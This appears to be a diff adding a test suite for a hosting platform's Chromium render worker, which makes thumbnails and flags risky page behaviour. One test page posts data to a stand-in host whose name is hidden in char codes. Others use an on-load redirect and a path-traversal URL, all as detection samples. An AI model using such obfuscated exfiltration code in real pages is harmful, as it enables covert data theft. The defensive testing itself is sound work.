@@ -1,0 +1,266 @@
+/**
+ * The render worker (docs/render.md) with Debian's real Chromium: pictures of the right size,
+ * runtime findings (data sent to another host through a URL built at run time, leaving the page on
+ * load), a page that hangs is failed after its retries, jobs survive a restart, and without
+ * Chromium everything else works. One app (one browser) serves most tests of the file.
+ */
+import sharp from 'sharp';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import * as deployments from '../src/repositories/deployments.js';
+import { createRenderJobsRepository } from '../src/repositories/render-jobs.js';
+import { createTestApp, restartTestApp, review, type TestApp, uploadProject } from './helpers.js';
+
+const render = (over: Partial<TestApp['config']['render']> = {}) => ({
+  render: {
+    enabled: true,
+    chromiumPath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
+    pollMs: 200,
+    loadTimeoutMs: 10_000,
+    retryAfterMs: 0,
+    ...over,
+  },
+});
+
+const html = (body: string, head = '') =>
+  `<!doctype html><html><head><meta charset="utf-8">${head}</head><body>${body}</body></html>`;
+
+async function upload(t: TestApp, token: string, index: string, extra: Record<string, string> = {}) {
+  const files = [
+    { name: 'index.html', content: index },
+    ...Object.entries(extra).map(([name, content]) => ({ name, content })),
+  ];
+  const res = await uploadProject(t, token, { name: '渲染测试', files });
+  expect(res.statusCode).toBe(201);
+  const project = res.json().data.project as { id: number };
+  const p = await t.ctx.repositories.projects.byId(project.id);
+  return { id: project.id, deploymentId: p!.latest_deployment_id! };
+}
+
+async function reportOf(t: TestApp, deploymentId: number) {
+  const d = await deployments.byId(t.ctx.db, deploymentId);
+  return JSON.parse(d!.content_check!) as {
+    level: string;
+    findings: Array<{ rule?: string; severity: string; category: string; message: string }>;
+    runtime?: { external_requests: Array<{ url: string }>; blank: boolean };
+  };
+}
+
+describe('render worker', () => {
+  let t: TestApp;
+  let owner: { token: string };
+  beforeAll(async () => {
+    t = await createTestApp(render({ loadTimeoutMs: 3_000 }));
+    owner = await t.createUser();
+  });
+  afterAll(() => t.close());
+
+  it('renders a site to two non-blank WebP pictures, shown publicly once the version is live', async () => {
+    const site = await upload(
+      t,
+      owner.token,
+      html(
+        '<h1 style="font-size:80px;color:#c00">站点展厅</h1><p>你好</p>',
+        '<link rel="stylesheet" href="style.css">',
+      ),
+      { 'style.css': 'body{background:#eef}' },
+    );
+    // The upload's answer did not wait for the render.
+    expect((await t.ctx.services.render.job(site.deploymentId))?.status).toMatch(/queued|running/);
+    await t.ctx.services.render.idle();
+    const job = await t.ctx.services.render.job(site.deploymentId);
+    expect(job).toMatchObject({ status: 'done', attempts: 1, error: null });
+    const d = await deployments.byId(t.ctx.db, site.deploymentId);
+    const large = await sharp(await bufferOf(t, d!.thumbnail_sha256!)).metadata();
+    const small = await sharp(await bufferOf(t, d!.thumbnail_small_sha256!)).metadata();
+    expect([large.format, large.width, large.height]).toEqual(['webp', 640, 400]);
+    expect([small.format, small.width, small.height]).toEqual(['webp', 320, 200]);
+    const stats = await sharp(await bufferOf(t, d!.thumbnail_sha256!)).stats();
+    expect(Math.max(...stats.channels.map((c) => c.stdev))).toBeGreaterThan(5);
+    expect((await reportOf(t, site.deploymentId)).runtime?.blank).toBe(false);
+
+    // The owner sees the picture of the pending version; anonymous visitors do not.
+    const mine = await t.request({ url: `/api/projects/${site.id}`, token: owner.token });
+    const url = mine.json().data.project.thumbnail_url as string;
+    expect(url).toBe(`/api/thumbnails/${d!.thumbnail_sha256}.webp`);
+    expect((await t.request({ url })).statusCode).toBe(404);
+    const own = await t.request({ url, token: owner.token });
+    expect(own.statusCode).toBe(200);
+    expect(own.headers['cache-control']).toBe('private, max-age=31536000, immutable');
+
+    // Live and public: anyone, cached for good, with its ETag.
+    expect((await review(t, site.id, 'approve')).statusCode).toBe(200);
+    const list = await t.request({ url: '/api/projects/public' });
+    const card = list.json().data.projects.find((p: { id: number }) => p.id === site.id);
+    expect(card.thumbnail_url).toBe(url);
+    const pub = await t.request({ url });
+    expect(pub.statusCode).toBe(200);
+    expect(pub.headers['content-type']).toBe('image/webp');
+    expect(pub.headers['cache-control']).toBe('public, max-age=31536000, immutable');
+    expect(pub.headers['x-content-type-options']).toBe('nosniff');
+    expect(pub.headers.etag).toMatch(/^"[0-9a-f]{32}"$/);
+    const again = await t.request({ url, headers: { 'if-none-match': String(pub.headers.etag) } });
+    expect(again.statusCode).toBe(304);
+    // A bad name is a plain 404, never a 500.
+    expect((await t.request({ url: '/api/thumbnails/..%2f..%2fetc.webp' })).statusCode).toBe(404);
+
+    // Going live queued a render of the live version; the orphan sweep keeps the pictures.
+    await t.ctx.services.render.idle();
+    await t.ctx.services.render.idle();
+    expect(await t.ctx.store.stat(d!.thumbnail_sha256!)).not.toBeNull();
+  });
+
+  it('reports data sent to another host through a URL built at run time, recorded and aborted', async () => {
+    // The host appears nowhere in the source text: it is decoded from char codes when the page runs.
+    const codes = [...'collect.exfil-test.example'].map((c) => c.charCodeAt(0)).join(',');
+    const site = await upload(
+      t,
+      owner.token,
+      html(
+        '<h1>表单</h1>',
+        `<script>const h = String.fromCharCode(${codes}); fetch('https://' + h + '/c', { method: 'POST', body: document.title + 'secret' });</script>`,
+      ),
+    );
+    await t.ctx.services.render.idle();
+    const report = await reportOf(t, site.deploymentId);
+    const finding = report.findings.find((f) => f.rule === 'runtime.data-sent');
+    expect(finding).toBeDefined();
+    expect(['high', 'medium']).toContain(finding!.severity);
+    expect(finding!.message).toContain('collect.exfil-test.example');
+    expect(report.level).toBe('high');
+    expect(report.runtime?.external_requests).toEqual([
+      expect.objectContaining({ url: 'https://collect.exfil-test.example/c', allowed: false }),
+    ]);
+    // The review list's risk sort counts it.
+    const d = await deployments.byId(t.ctx.db, site.deploymentId);
+    expect(d!.content_risk).toBe(4);
+  });
+
+  it('reports a page that leaves for another host on load', async () => {
+    const site = await upload(
+      t,
+      owner.token,
+      html('<p>稍候</p>', '<script>location.href = "https://elsewhere-test.example/landing";</script>'),
+    );
+    await t.ctx.services.render.idle();
+    const report = await reportOf(t, site.deploymentId);
+    const finding = report.findings.find((f) => f.rule === 'runtime.navigation');
+    expect(finding?.message).toContain('elsewhere-test.example');
+    expect(finding?.severity).toBe('high');
+  });
+
+  it('reports a blank page and missing files as usability findings', async () => {
+    const site = await upload(
+      t,
+      owner.token,
+      html('<img src="missing.png" width="1" height="1" style="opacity:0">'),
+    );
+    await t.ctx.services.render.idle();
+    const report = await reportOf(t, site.deploymentId);
+    const rules = report.findings.map((f) => f.rule);
+    expect(rules).toContain('runtime.blank');
+    expect(rules).toContain('runtime.missing');
+    expect(report.findings.find((f) => f.rule === 'runtime.blank')?.category).toBe('usability');
+  });
+
+  it('fails a page that hangs after two retries, with its reason', async () => {
+    const site = await upload(t, owner.token, html('<p>卡住</p><script>for (;;) {}</script>'));
+    await t.ctx.services.render.idle();
+    const job = await t.ctx.services.render.job(site.deploymentId);
+    expect(job).toMatchObject({ status: 'failed', attempts: 3 });
+    expect(job!.error).toContain('超时');
+    // The next site still renders (the hung browser was replaced).
+    const next = await upload(t, owner.token, html('<h1>之后</h1>'));
+    await t.ctx.services.render.idle();
+    expect((await t.ctx.services.render.job(next.deploymentId))?.status).toBe('done');
+  }, 60_000);
+
+  it('lets an admin render a project again', async () => {
+    const site = await upload(t, owner.token, html('<h1>再来</h1>'));
+    await t.ctx.services.render.idle();
+    const res = await t.request({
+      method: 'POST',
+      url: `/api/admin/projects/${site.id}/render`,
+      token: await t.adminToken(),
+    });
+    expect(res.statusCode).toBe(200);
+    expect(res.json().data.queued).toBe(1);
+    expect((await t.ctx.services.render.job(site.deploymentId))?.status).toMatch(/queued|running|done/);
+    await t.ctx.services.render.idle();
+    expect((await t.ctx.services.render.job(site.deploymentId))?.status).toBe('done');
+    const user = await t.createUser();
+    const refused = await t.request({
+      method: 'POST',
+      url: `/api/admin/projects/${site.id}/render`,
+      token: user.token,
+    });
+    expect(refused.statusCode).toBe(403);
+    const missing = await t.request({
+      method: 'POST',
+      url: '/api/admin/projects/999999/render',
+      token: await t.adminToken(),
+    });
+    expect(missing.statusCode).toBe(404);
+  });
+});
+
+describe('render jobs', () => {
+  it('survive a restart: queued while the worker is off, rendered by the next start', async () => {
+    let t = await createTestApp({ ...render(), render: { ...render().render, enabled: false } });
+    try {
+      const owner = await t.createUser();
+      const site = await upload(t, owner.token, html('<h1>重启</h1>'));
+      expect((await t.ctx.services.render.job(site.deploymentId))?.status).toBe('queued');
+      t.config.render.enabled = true;
+      t = await restartTestApp(t);
+      await t.ctx.services.render.idle();
+      expect((await t.ctx.services.render.job(site.deploymentId))?.status).toBe('done');
+    } finally {
+      await t.close();
+    }
+  });
+
+  it('are taken by one holder at a time; an expired lease is taken over', async () => {
+    const t = await createTestApp();
+    try {
+      const owner = await t.createUser();
+      const site = await upload(t, owner.token, html('<h1>租约</h1>'));
+      const jobs = createRenderJobsRepository(t.ctx.db);
+      const at = new Date().toISOString();
+      const later = new Date(Date.now() + 60_000).toISOString();
+      const [a, b] = await Promise.all([jobs.take('a', at, later), jobs.take('b', at, later)]);
+      expect([a, b].filter(Boolean)).toHaveLength(1);
+      expect((a ?? b)!.deployment_id).toBe(site.deploymentId);
+      expect(await jobs.take('c', at, later)).toBeUndefined();
+      const taken = await jobs.take('c', new Date(Date.now() + 61_000).toISOString(), later);
+      expect(taken).toMatchObject({ holder: 'c', attempts: 2 });
+      // The first holder's late answer changes nothing.
+      expect(await jobs.settle(taken!.id, (a ?? b)!.holder!, { status: 'done', durationMs: 1 }, at)).toBe(
+        false,
+      );
+    } finally {
+      await t.close();
+    }
+  });
+
+  it('without Chromium: uploads work, /readyz says so and stays ready', async () => {
+    const t = await createTestApp(render({ chromiumPath: '/nonexistent/chromium' }));
+    try {
+      const owner = await t.createUser();
+      const site = await upload(t, owner.token, html('<h1>无浏览器</h1>'));
+      const ready = await t.request({ url: '/readyz' });
+      expect(ready.statusCode).toBe(200);
+      expect(ready.json().detail).toEqual({ render: 'chromium missing' });
+      expect((await t.ctx.services.render.job(site.deploymentId))?.status).toBe('queued');
+      const mine = await t.request({ url: `/api/projects/${site.id}`, token: owner.token });
+      expect(mine.json().data.project.thumbnail_url).toBeNull();
+    } finally {
+      await t.close();
+    }
+  });
+});
+
+async function bufferOf(t: TestApp, sha256: string): Promise<Buffer> {
+  const chunks: Buffer[] = [];
+  for await (const c of await t.ctx.store.read(sha256)) chunks.push(c as Buffer);
+  return Buffer.concat(chunks);
+}
